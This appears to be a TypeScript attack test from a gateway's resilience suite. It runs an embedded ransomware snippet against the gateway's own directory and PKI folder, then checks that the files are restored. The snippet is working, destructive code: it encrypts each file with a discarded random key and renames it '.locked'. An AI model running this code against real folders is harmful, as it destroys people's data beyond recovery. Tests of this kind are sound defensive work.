import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { defineAttack } from './attack.ts';
import { eventually } from './ward.ts';

/** Encrypts file by file under another key each, and leaves a copy of another name in its place. */
const ransomware = `
  const { readdirSync, readFileSync, renameSync, writeFileSync } = require('fs');
  const { createCipheriv, randomBytes } = require('crypto');
  for (const folder of process.argv.slice(1)) {
    for (const name of readdirSync(folder, { withFileTypes: true })) {
      if (!name.isFile()) continue;
      const path = folder + '/' + name.name;
      const cipher = createCipheriv('aes-256-ctr', randomBytes(32), randomBytes(16));
      writeFileSync(path, Buffer.concat([cipher.update(readFileSync(path)), randomBytes(64)]));
      renameSync(path, path + '.locked');
    }
  }`;
/** So long goes the gateway on to put back. */
const settledMs = 10_000;

export default defineAttack({
  threat: 'D17',
  title: 'The site’s files are encrypted for ransom, as the gateway’s own user',

  async run({ directory }) {
    const folders = [directory, join(directory, 'pki')];
    const before = new Map(folders.flatMap(textsOf));
    const process = spawn('node', ['-e', ransomware, ...folders], { stdio: 'ignore' });
    await once(process, 'exit');
    const lost = () => [...before].filter(([path, text]) => textAt(path) !== text);
    await eventually(() => lost().length === 0, settledMs);
    return {
      measured: `files lost: ${lost().length} of ${before.size}`,
      isAbsent: before.size > 0 && lost().length === 0,
    };
  },
});

/** Revocation lists are made anew by themselves; they are no text. */
function textsOf(folder: string): readonly (readonly [path: string, text: string])[] {
  return readdirSync(folder, { withFileTypes: true })
    .filter((entry) => entry.isFile() && !entry.name.endsWith('.crl'))
    .map(({ name }) => [join(folder, name), readFileSync(join(folder, name), 'utf8')] as const);
}

function textAt(path: string): string | undefined {
  try {
    return readFileSync(path, 'utf8');
  } catch {
    // It is still under its other name.
    return undefined;
  }
}
